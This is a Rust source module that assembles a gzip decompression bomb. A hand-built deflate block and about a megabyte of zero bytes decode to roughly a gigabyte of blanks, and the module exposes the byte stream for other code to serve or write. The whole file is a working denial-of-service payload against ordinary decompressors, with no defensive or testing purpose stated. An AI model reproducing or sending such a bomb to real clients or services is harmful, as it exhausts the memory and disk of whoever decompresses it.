//! A gigabyte of blanks in a megabyte of gzip, without a compressor.
//!
//! In a deflate block that knows only blank, end and "258 bytes from one back", with codes of
//! two, two and one bit, and one distance code of one bit, a zero byte means four copies: 1,032
//! blanks. So the bomb is a short prefix (gzip header, code tables, one blank), a run of zero
//! bytes, and a suffix (end of block, CRC-32, length); all of it valid.

/// gzip header, block header, code lengths, the first blank.
const PREFIX: [u8; 25] = [
    0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0xff, 0xed, 0xc0, 0x81, 0x00, 0x00, 0x00, 0x00,
    0x80, 0x20, 0x95, 0xfd, 0x29, 0x17, 0xa9, 0x00,
];
const ZEROS: [u8; 1024] = [0; 1024];
const ZEROS_REPEATED: usize = 1016;
/// End of block, CRC-32 and length of what comes out, little-endian.
const SUFFIX: [u8; 9] = [0x06, 0x40, 0xf1, 0x7a, 0x7a, 0x09, 0x04, 0xff, 0x3f];

/// Bytes on the wire; 1,073,677,321 once decoded.
pub(super) const LENGTH: usize = PREFIX.len() + ZEROS.len() * ZEROS_REPEATED + SUFFIX.len();

/// The bytes in order.
pub(super) fn parts() -> impl Iterator<Item = &'static [u8]> {
    std::iter::once(PREFIX.as_slice())
        .chain(std::iter::repeat_n(ZEROS.as_slice(), ZEROS_REPEATED))
        .chain(std::iter::once(SUFFIX.as_slice()))
}
